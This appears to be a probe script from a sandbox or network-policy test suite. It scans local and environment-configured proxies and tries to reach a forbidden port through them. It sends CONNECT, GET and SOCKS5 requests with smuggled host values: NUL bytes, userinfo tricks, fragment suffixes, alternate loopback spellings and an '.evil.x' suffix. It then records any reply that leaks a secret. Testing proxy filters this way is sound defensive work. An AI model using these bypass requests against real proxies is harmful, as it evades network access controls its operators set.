# Asks every proxy that it knows of, or that may be there, for other hosts: with NUL, userinfo, suffixes, another port,
# other spellings of loopback (CVEs of proxies; srt's SOCKS and CONNECT with NUL).
import os
import socket
import urllib.parse
from contextlib import suppress

from common import facts, finish, hit, secret

name, granted, port = facts["granted_name"], facts["granted_port"], facts["forbidden_port"]
proxies = {("127.0.0.1", number) for number in (3128, 8080, 1080, 8888, 9050)}
for variable in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
    with suppress(ValueError):
        parts = urllib.parse.urlsplit(os.environ.get(variable, ""))
        if parts.hostname:
            proxies.add((parts.hostname, parts.port or 80))
targets = [f"127.0.0.1:{port}", f"{name}:{port}", f"{name}\0.example:{port}", f"127.0.0.1\0{name}:{port}",
           f"{name}@127.0.0.1:{port}", f"{name}:{granted}@127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}",
           f"0x7f.1:{port}", f"127.0.0.1:{port}#.{name}:{granted}", f"{name}:{granted}:{port}",
           f"{name}%2f@127.0.0.1:{port}"]
for proxy in proxies:
    for target in targets:
        for request in (f"CONNECT {target} HTTP/1.1\r\nHost: {name}\r\n\r\n",
                        f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\n\r\n"):
            with suppress(OSError), socket.create_connection(proxy, 1) as stream:
                stream.settimeout(0.3)
                stream.sendall(request.encode())
                answer = stream.recv(300)
                if answer.startswith(b"HTTP/1.1 200") and request.startswith("CONNECT"):
                    stream.sendall(b"GET / HTTP/1.0\r\n\r\n")
                    answer += stream.recv(300)
                if secret(answer):
                    hit(f"{proxy}: {target}")
    for address in (b"\1\x7f\0\0\1", b"\3\x09localhost", b"\3" + bytes([len(name) + 8]) + name.encode() + b"\0.evil.x"):
        with suppress(OSError), socket.create_connection(proxy, 1) as stream:
            stream.settimeout(0.3)
            stream.sendall(b"\5\1\0")
            stream.recv(2)
            stream.sendall(b"\5\1\0" + address + port.to_bytes(2, "big") + b"GET / HTTP/1.0\r\n\r\n")
            if secret(stream.recv(300)):
                hit(f"SOCKS {proxy}: {address!r}")
finish()
